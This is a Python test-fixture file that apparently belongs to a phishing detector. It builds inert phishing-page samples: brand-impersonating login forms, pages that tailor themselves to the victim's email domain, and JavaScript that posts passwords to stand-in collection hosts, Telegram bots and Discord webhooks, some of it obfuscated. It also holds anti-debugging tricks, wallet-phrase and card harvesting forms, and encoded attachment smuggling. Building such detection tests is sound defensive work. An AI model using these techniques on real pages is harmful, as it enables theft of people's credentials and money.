"""Traps as they are described in public reports, rebuilt inert: nothing is sent, hosts are reserved."""

from collections.abc import Iterator

from unhook.pages.saved.model import Resource

from .made import Case, Kind, form, page, saved, unpacking

HOST = "https://update.victim-site.test/mail/"
DROP = "https://collect.example.net/p.php"
BRANDS = (
    "Microsoft",
    "Google",
    "Yahoo",
    "DHL",
    "PayPal",
    "Netflix",
    "Amazon",
    "DocuSign",
    "Adobe",
    "Sparkasse",
)
_TITLES = {
    "Microsoft": "Sign in to your Microsoft account",
    "Google": "Google Account - Sign in",
    "Yahoo": "Yahoo Mail | Login",
    "DHL": "DHL – Tracking",
    "PayPal": "PayPal: Log in",
    "Netflix": "Netflix",
    "Amazon": "Amazon Sign In",
    "DocuSign": "DocuSign - View document",
    "Adobe": "Adobe Document Cloud",
    "Sparkasse": "Sparkasse Online-Banking: Anmelden",
}
READ = {
    "fragment": "var who=location.hash.substr(1);",
    "query": "var who=new URLSearchParams(location.search).get('email');",
    "path": "var who=location.pathname.split('/').pop();if(who.indexOf('@')>0){}",
    "base64": "var who=atob(location.hash.substr(1));",
    "whole": "var who=window.location.href.split('#')[1];if(/@/.test(who)){}",
}
_FILL = "document.getElementById('login').value=who;var domain=who.split('@')[1];"
_LOGO = "document.getElementById('logo').src='https://logo.clearbit.com/'+domain;"
_SHOT = "document.body.style.backgroundImage='url(https://image.thum.io/get/https://'+domain+')';"
_ICON = "document.getElementById('logo').src='https://www.google.com/s2/favicons?domain='+domain;"
_MX = (
    "fetch('https://dns.google/resolve?type=MX&name='+domain).then(function(r){return r.json()}).then(paint);"
)
_TAKEN = (
    "document.forms[0].onsubmit=function(e){e.preventDefault();var secret=document.forms[0].secret.value;%s};"
)
_BOT = "https://api.telegram.org/bot000:inert/sendMessage"
SENDS = {
    "fetch": f"fetch('{DROP}',{{method:'POST',body:secret}})",
    "xhr": f"var x=new XMLHttpRequest();x.open('POST','{DROP}');x.send(secret)",
    "ajax": f"$.ajax({{type:'POST',url:'{DROP}',data:secret}})",
    "beacon": f"navigator.sendBeacon('{DROP}',secret)",
    "image": "new Image().src='https://collect.example.net/i.gif?s='+secret",
    "websocket": "new WebSocket('wss://collect.example.net/s').send(secret)",
    "worker": "new Worker('https://collect.example.net/w.js').postMessage(secret)",
    "shared worker": "new SharedWorker('https://collect.example.net/w.js').port.postMessage(secret)",
    "event source": "new EventSource('https://collect.example.net/e?'+secret)",
}


def all() -> tuple[Case, ...]:
    """Every trap."""
    return tuple(_all())


def _case(
    group: str, variant: str, html: str, url: str | None = HOST, kind: Kind = "trap", *more: Resource
) -> Case:
    return Case(f"{group}: {variant}", group, kind, saved(html, url, *more))


def _all() -> Iterator[Case]:
    yield from _fixed()
    yield from _adapting()
    yield from _sending()
    yield from _disguised()
    yield from _attached()
    yield from _walled()


def _fixed() -> Iterator[Case]:
    for brand in BRANDS:
        yield _case("fixed", brand, page(_TITLES[brand], form("next.php")))
    yield _case("fixed", "Provider A", page("Provider A sign-in", form("login.php")))
    yield _case(
        "fixed",
        "Provider A in the heading",
        page("Welcome", form("login.php"), heading="Sign in to Provider A"),
    )
    yield _case("fixed", "a logo", page("Sign in", "<img src=img/microsoft_logo.svg alt=''>" + form("a.php")))
    yield _case(
        "fixed", "a logo's words", page("Log in", "<img src=1.png alt='Outlook logo'>" + form("a.php"))
    )
    yield _case(
        "fixed",
        "drawings of the provider's own",
        page(
            "Secure document",
            form("a.php"),
            head="<style>body{background:url('https://aadcdn.msauth.net/shared/1.0/content/images/a.jpg')}</style>",
        ),
    )
    yield _case(
        "fixed",
        "beside the field",
        page(
            "Secure file", form("a.php", secret="<label>Gmail password<input type=password name=p></label>")
        ),
    )
    yield _case("fixed", "look-alike letters", page("Sign in to your Мicrosoft account", form("a.php")))
    yield _case(
        "fixed", "in German", page("Bei Ihrem Microsoft-Konto anmelden", form("a.php", button="Anmelden"))
    )
    yield _case("fixed", "in French", page("Connectez-vous à votre compte PayPal", form("a.php")))
    yield _case("fixed", "in Spanish", page("Iniciar sesión en su cuenta Microsoft", form("a.php")))
    yield _case("fixed", "no brand, to itself", page("Sign in", form("login.php")), kind="hidden trap")
    yield _case("fixed", "webmail, to itself", page("Webmail login", form("login.php")), kind="hidden trap")


def _adapting() -> Iterator[Case]:
    own = '<img id=logo alt=""><form method=post action=a.php><input id=login name=login>'
    body = own + "<input type=password name=secret></form>"
    for place, reads in READ.items():
        for oracle, asks in {
            "logo": _LOGO,
            "icon": _ICON,
            "screenshot": _SHOT,
            "mail exchanger": _MX,
        }.items():
            yield _case(f"adapts by {place}", oracle, page("Sign in", body, reads + _FILL + asks))
    for place, reads in READ.items():
        paints = "var mine={'a.test':'Provider A','b.test':'Provider B'};document.title=mine[domain]||domain;"
        tellable = place in ("base64",)
        yield _case(
            f"adapts by {place}", "a table of its own", page("Sign in", body, reads + _FILL + paints),
            kind="trap" if tellable else "hidden trap",
        )  # fmt: skip
    typed = "document.getElementById('login').onblur=function(){var domain=this.value.split('@')[1];%s};"
    yield _case("adapts by typed address", "mail exchanger", page("Sign in", body, typed % _MX))
    yield _case(
        "adapts by typed address",
        "a table of its own",
        page("Sign in", body, typed % "document.title=domain"),
        kind="hidden trap",
    )
    refuses = (
        READ["fragment"]
        + "if(!/@corp\\.example$/.test(who))location.replace('https://www.example.com/');"
        + _FILL
    )
    yield _case("refuses the canary", "by fragment", page("Sign in", body, refuses), kind="hidden trap")
    several = "".join(
        f"<button>{name}</button>" for name in ("Outlook", "Gmail", "Yahoo", "AOL", "Other mail")
    )
    yield _case(
        "provider choice",
        "buttons",
        page("Secure file", f"<p>Choose your email provider</p>{several}{form('a.php')}"),
    )


def _sending() -> Iterator[Case]:
    for channel, sends in SENDS.items():
        yield _case("sends", f"{channel}, a brand", page(_TITLES["Microsoft"], form(), _TAKEN % sends))
    yield _case("sends", "form to another host, a brand", page(_TITLES["Google"], form(DROP)))
    yield _case(
        "sends", "bot", page("Sign in", form(), _TAKEN % f"fetch('{_BOT}',{{method:'POST',body:secret}})")
    )
    yield _case(
        "sends",
        "bot, in pieces",
        page(
            "Sign in", form(), _TAKEN % "fetch('https://api.tele'+'gram.org/bot0:x/sendMessage?text='+secret)"
        ),
    )
    yield _case(
        "sends",
        "bot, in base64",
        page(
            "Sign in",
            form(),
            _TAKEN
            % (
                "var u=atob('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDA6eC9zZW5kTWVzc2FnZQ==');"
                "fetch(u,{method:'POST',body:secret})"
            ),
        ),
    )
    yield _case(
        "sends",
        "chat hook",
        page(
            "Sign in",
            form(),
            _TAKEN % "fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:secret})",
        ),
    )
    yield _case("sends", "form service", page("Sign in", form("https://formspree.io/f/inert")))
    yield _case("sends", "mail address", page("Sign in", form("mailto:box@collect.example.net")))
    yield _case(
        "sends",
        "form service by script",
        page(
            "Sign in",
            form(),
            _TAKEN % "fetch('https://formsubmit.co/ajax/inert',{method:'POST',body:secret})",
        ),
    )
    for channel in ("image", "websocket", "worker"):
        yield _case("sends", f"{channel}, no brand", page("Sign in", form(), _TAKEN % SENDS[channel]))
    yield _case(
        "sends", "fetch, no brand", page("Sign in", form(), _TAKEN % SENDS["fetch"]), kind="hidden trap"
    )


def _disguised() -> Iterator[Case]:
    dots = '<input type=text name=field2 style="-webkit-text-security: disc">'
    yield _case("dressed field", "by style", page(_TITLES["Microsoft"], form("a.php", secret=dots)))
    yield _case(
        "dressed field",
        "by name",
        page(_TITLES["Microsoft"], form("a.php", secret="<input type=text name=passwd>")),
    )
    yield _case(
        "dressed field",
        "drawn",
        page(
            "PayPal: Log in",
            "<div contenteditable id=x></div><button>Log in</button>",
            head="<style>#x{-webkit-text-security:disc}</style>",
        ),
    )
    yield _case(
        "dressed field",
        "code alone",
        page("PayPal: security check", form("a.php", "", "<input name=otp autocomplete=one-time-code>")),
    )
    window = (
        "<div class=browser-window><div class=title-bar>Sign in</div><div class=url-bar>https://accounts.{host}/signin</div>"
        + form("a.php")
        + "</div>"
    )
    yield _case("drawn window", "Provider A", page("Shared file", window.format(host="provider-a.test")))
    yield _case("drawn window", "of a brand", page("Shared file", window.format(host="google.com")))
    device = "<p>Copy the code ABCD-EFGH, then enter the code at <a href=https://microsoft.com/devicelogin>microsoft.com/devicelogin</a></p>"
    yield _case("device code", "Microsoft", page("View document", device))
    made = (
        "setTimeout(function(){var i=document.createElement('input');"
        "i.type='password';i.name='secret';document.forms[0].appendChild(i)},3000)"
    )
    yield _case(
        "delayed form",
        "by script",
        page(_TITLES["Microsoft"], "<form method=post action=a.php><input name=login></form>", made),
    )
    yield _case(
        "delayed form",
        "a written literal",
        page(
            _TITLES["Google"],
            "<div id=x></div>",
            "setTimeout(function(){x.innerHTML='<form action=a.php>"
            "<input name=l><input type=password name=p></form>'},3000)",
        ),
    )
    steps = (
        "<div id=step1><input type=email></div><div id=step2 "
        "style=display:none><input type=password name=p></div>"
    )
    yield _case(
        "delayed form",
        "two steps",
        page(_TITLES["Microsoft"], f"<form action=a.php method=post>{steps}</form>"),
    )
    shy = (
        "setInterval(function(){debugger},50);document.addEventListener('contextmenu',"
        "function(e){e.preventDefault()});document.onkeydown=function(e){if(e.keyCode==123)return false};"
    )
    yield _case("shies", "debugger and keys", page("Sign in", form("a.php"), shy))
    yield _case(
        "shies",
        "robots",
        page(
            "Sign in",
            form("a.php"),
            "if(navigator.webdriver||/HeadlessChrome/.test(navigator.userAgent)){location.href='https://www.example.com/'}"
            + shy[:38],
        ),
    )
    packed = (
        "eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}));"
        "document.onkeydown=function(e){if(e.keyCode==123)return false};"
    )
    yield _case("shies", "packed", page("Sign in", form("a.php"), packed))
    yield _case(
        "wallet",
        "recovery phrase",
        page(
            "MetaMask - Restore your wallet",
            form("a.php", "", "<textarea name=phrase placeholder='Secret recovery phrase'></textarea>"),
        ),
    )
    yield _case(
        "card",
        "parcel fee",
        page(
            "DHL - Pay delivery fee",
            form("a.php", "", "<input name=cardnumber autocomplete=cc-number><input name=cvv>"),
        ),
    )
    frame = Resource(HOST + "in.html", page(_TITLES["Microsoft"], form("a.php")).encode(), "text/html")
    yield _case(
        "frame", "kept beside", page("Document", "<iframe src=in.html></iframe>"), HOST, "trap", frame
    )
    inner = page("Google Account - Sign in", form(DROP)).replace('"', "'")
    yield _case("frame", "written in", page("Document", f'<iframe srcdoc="{inner}"></iframe>'))


def _attached() -> Iterator[Case]:
    sign_in = page(_TITLES["Microsoft"], form(DROP))
    yield _case("attachment", "a brand, form", sign_in, None)
    yield _case("attachment", "a brand, fetch", page("Outlook", form(), _TAKEN % SENDS["fetch"]), None)
    yield _case("attachment", "no brand", page("View document", form(DROP)), None)
    yield _case("attachment", "bot", page("Document", form(), _TAKEN % f"fetch('{_BOT}')"), None)
    yield _case(
        "attachment",
        "a brand, nobody says where to",
        page("Microsoft: Sign in", form(), _TAKEN % "go(secret)"),
        None,
    )
    for how in ("base64", "percent", "codes", "pieces"):
        yield _case("smuggled", how, unpacking(sign_in, how), None)
    yield _case("smuggled", "twice", unpacking(unpacking(sign_in)), None)
    yield _case("smuggled", "on a host, no brand", unpacking(page("Sign in", form("a.php"))))
    yield _case(
        "attachment",
        "address in it, logo by service",
        page("Document", form(DROP), READ["fragment"] + _FILL + _LOGO),
        None,
    )


def _walled() -> Iterator[Case]:
    wall = (
        "<script src=https://challenges.cloudflare.com/turnstile/v0/api.js>"
        "</script><div class=cf-turnstile></div>"
    )
    yield _case("challenge wall", "turnstile", page("Just a moment...", wall), kind="hidden trap")
    yield _case(
        "challenge wall", "words", page("Security check", "<p>Verify you are human</p>"), kind="hidden trap"
    )
    yield _case(
        "challenge wall",
        "picture test",
        page("", "<script src=https://js.hcaptcha.com/1/api.js></script>"),
        kind="hidden trap",
    )
    yield _case("nothing there", "empty", "", kind="hidden trap")
    yield _case("nothing there", "only a script", page(script="load()"), kind="hidden trap")
    yield Case(
        "nothing there: refused",
        "nothing there",
        "hidden trap",
        saved(page("404 Not Found"), HOST, status=404),
    )
    yield _case(
        "moves on",
        "refresh",
        page(head="<meta http-equiv=refresh content='0; url=https://next.victim-site.test/'>"),
        kind="hidden trap",
    )
    yield _case(
        "moves on",
        "script",
        page(script="window.location.href='https://next.victim-site.test/'"),
        kind="hidden trap",
    )
